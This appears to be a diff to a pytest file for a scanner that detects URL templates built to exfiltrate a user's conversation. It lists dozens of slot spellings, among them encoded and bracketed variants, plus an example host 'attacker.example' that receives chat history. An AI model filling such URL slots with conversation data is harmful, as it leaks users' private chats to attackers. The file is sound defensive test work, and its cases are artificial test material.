@@ -96,6 +96,53 @@ LAYOUT = [
     "https://x.{chat_history}.attacker.example/p",
 ]
 
+#: a sigil or quote before the opening, one inside it, template modifiers in a row, words
+#: after the name that say how to write it, brackets of prose and CJK text
+MORE_SYNTAX = [
+    U + "%{conversation}",  # Ruby's format and i18n interpolation
+    U + "@{conversation}",
+    U + "'{conversation}'",
+    U + "${{ conversation }}",  # a GitHub Actions expression
+    U + "{{ .Conversation }}",  # Go's text/template
+    U + "{$conversation}",
+    U + "<%= conversation %>",  # ERB
+    U + "$[conversation]",
+    U + "{{ conversation | tojson | urlencode }}",
+    U + "{{ conversation | join(' ') }}",
+    U + "{conversation!r}",
+    U + "{conversation.messages[-1].content}",
+    U + "{conversation_json_b64}",
+    U + "{conversation (url encoded)}",
+    U + "{conversation, base64-encoded}",
+    U + "{conversation_summary_in_base64}",
+    U + "{conversation...}",
+    U + "{_conversation}",
+    U + "\u00abconversation\u00bb",
+    U + "\u300cconversation\u300d",
+    U + "\u3010chat_history\u3011",
+    U + "\u27e8conversation\u27e9",
+    U + "{the chat}",
+    U + "{our chat so far}",
+    U + "{conv_history}",
+    U + "{everything above}",
+    U + "{all of the above}",
+]
+
+
+@pytest.mark.parametrize("text", MORE_SYNTAX)
+def test_a_slot_with_a_sigil_modifier_or_wide_bracket_is_high(text: str) -> None:
+    assert ("exfil.url_data_slot", "high") in _high(text), scan_text(text)
+
+
+@pytest.mark.xfail(strict=True, reason="a misspelt or small-capital slot word is not read")
+@pytest.mark.parametrize(
+    "word", ["conversatoin", "\u1d04\u1d0f\u0274\u1d20\u1d07\u0280s\u1d00\u1d1b\u026a\u1d0f\u0274"]
+)
+def test_a_misspelt_slot_word_is_high(word: str) -> None:
+    text = U + "{" + word + "}"
+    assert _high(text), scan_text(text)
+
+
 #: near misses of the new spellings: a resource's id, a name that only starts alike, a
 #: dunder name, a percent-encoded byte, a slot on the line after a path
 NEAR = [
@@ -107,6 +154,11 @@ NEAR = [
     "https://example.com/search?q=%20conversion%20rates",
     "https://example.com/v1/\n{conversation}",
     "https://{region}.api.example.com/conversations",
+    '<a href="https://x.example/{% if conversation %}a{% endif %}">',  # a statement tag
+    'share_url: "https://example.com/c/%{conversation_id}"',
+    "https://{{ .Values.host }}/chat/{{ .Values.chatId }}",
+    "https://example.com/?lang=%{locale}&q=%{query}",
+    "Open https://app.example.com/\u00abuser\u00bb now",
 ]
 
 
